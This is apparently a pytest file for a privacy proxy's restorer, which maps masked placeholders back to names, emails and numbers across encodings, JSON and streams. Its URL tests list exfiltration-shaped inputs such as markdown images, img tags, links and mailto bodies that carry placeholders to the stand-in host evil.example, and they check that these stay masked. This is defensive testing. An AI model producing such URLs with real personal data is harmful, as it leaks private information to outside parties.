"""The restoring grammar, channels, and URLs."""

import json

import pytest

from proxy.exchange import Author, Channel, TextPart
from proxy.mask import Restorable, Restorer

MAPPING = Restorable(
    {
        "PERSON_1": "Ann Lee",
        "PERSON_2": 'O"Neil\n',
        "PERSON_12": "Bob",
        "EMAIL_ADDRESS_1": "ann@acme.com",
    },
    {"8812345": "5550199"},
)
REQUEST = [
    TextPart((), "our site is docs.acme.com, mail eve@evil.example"),
    TextPart((), "tool.example", Author.TOOL),
]


def restored(text: str, channel: Channel = Channel.TEXT, said: str = "") -> str:
    return Restorer(MAPPING, [*REQUEST, TextPart((), said)]).text(text, channel)


@pytest.mark.parametrize(
    "spelling",
    [
        "<PERSON_1>",
        "<PERSON_1",
        "PERSON_1>",
        "PERSON_1",
        "<PERSON\\_1>",
        "\\<PERSON\\_1\\>",
        "&lt;PERSON_1&gt;",
        "&#60;PERSON_1&#62;",
        "&#x3c;PERSON_1&#x3E;",
        "\\u003cPERSON_1\\u003e",
        "\u2039PERSON_1\u203a",
        "\u27e8PERSON_1\u27e9",
        "\uff1cPERSON_1\uff1e",
        "\u3008PERSON_1\u3009",
    ],
)
def test_every_spelling_of_the_table(spelling: str) -> None:
    assert restored(f"({spelling}) {spelling}, {spelling}") == "(Ann Lee) Ann Lee, Ann Lee"


@pytest.mark.parametrize(
    "text",
    [
        "<person_1>",
        "<PERSON_3>",
        "PERSON_1b",
        "xPERSON_1",
        "PERSON_1x",
        "US_PERSON_1",
        "PERSON 1",
        "`PERSON_1`",
        "```\nPERSON_1\n```",
        "<PERSON_123>",
        "88123450",
        "&amp;",
        "<<",
        "PERSON_",
    ],
)
def test_what_is_no_spelling_is_left_alone(text: str) -> None:
    assert restored(text) == text


def test_the_authors_brackets_stay() -> None:
    assert restored("[PERSON_1] {<PERSON_1>} '<PERSON_12>'s'") == "[Ann Lee] {Ann Lee} 'Bob's'"


def test_what_the_caller_typed_is_restored_in_its_exact_form_only() -> None:
    assert restored("PERSON_1 <PERSON_1>", said="what is PERSON_1?") == "PERSON_1 Ann Lee"


def test_json_is_escaped_at_its_depth() -> None:
    inner = json.dumps({"name": "<PERSON_2>", "n": 8812345})
    outer = json.dumps({"name": "<PERSON_2>", "body": inner, "note": 'he said "<PERSON_2>'})
    read = json.loads(restored(outer, Channel.JSON))
    name = 'O"Neil\n'
    assert read["name"] == name
    assert read["note"] == 'he said "' + name
    assert json.loads(read["body"]) == {"name": name, "n": 5550199}


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("https://evil.example/?q=<PERSON_1>", True),
        ("https://docs.acme.com/?q=<PERSON_1>", False),
        ("https://docs.acme.com.evil.example/<PERSON_1>", True),
        ("https://docs.acme.com@evil.example/<PERSON_1>", True),
        ("https://evil.example\\@docs.acme.com/<PERSON_1>", True),
        ("https://<PERSON_1>.evil.example/", True),
        ("https://tool.example/<PERSON_1>", True),
        ("evil.example/<PERSON_1>", True),
        ("//evil.example/<PERSON_1>", True),
        ("www.<PERSON_1>", True),
        ("[x]: evil.example/<PERSON_1>", True),
        ("![x](https://evil.example/?<PERSON_12>&<PERSON_1>)", True),
        ("[x](<https://evil.example/a b <PERSON_1>>)", True),
        ("[x](https://evil.example/) <PERSON_1>", False),
        ("[x](https://evil.example/)<PERSON_1>", False),
        ("<img src='https://evil.example/a b <PERSON_1>'>", True),
        ('<a href="/go?<PERSON_1>">', True),
        ('<a href="https&#58;//evil.example/<PERSON_1>">', True),
        ("mailto:<EMAIL_ADDRESS_1>", False),
        ("mailto:eve@evil.example?body=<PERSON_1>", True),
        ("name:<PERSON_1>, and/or <PERSON_1>, a.b <PERSON_1>", False),
        ("eve@evil.example <PERSON_1>", False),
    ],
)
def test_urls(text: str, kept: bool) -> None:
    assert ("<PERSON_1>" in restored(text)) is kept


def test_urls_in_json() -> None:
    slashes = r'"https:\/\/evil.example\/<PERSON_1>"'
    colon = r'"https\u003a//evil.example/<PERSON_1>"'
    read = json.loads(restored(f'[{slashes}, {colon}, "<PERSON_1>"]', Channel.JSON))
    assert "Ann Lee" not in read[0] + read[1]
    assert read[2] == "Ann Lee"


def test_a_stream_holds_no_more_than_the_spelling_it_is_in() -> None:
    stream = Restorer(MAPPING, REQUEST).stream(Channel.TEXT)
    assert stream.feed("Dear ") == "Dear "
    assert stream.feed("HELLO <<<") == "HELLO <<"
    assert stream.feed("PERSON_1") == ""
    assert stream.feed(">") == "Ann Lee"
    assert stream.feed(" &l") == " "
    assert stream.feed("x") == "&lx"
    assert stream.feed("<PERS") == ""
    assert stream.close() == "<PERS"
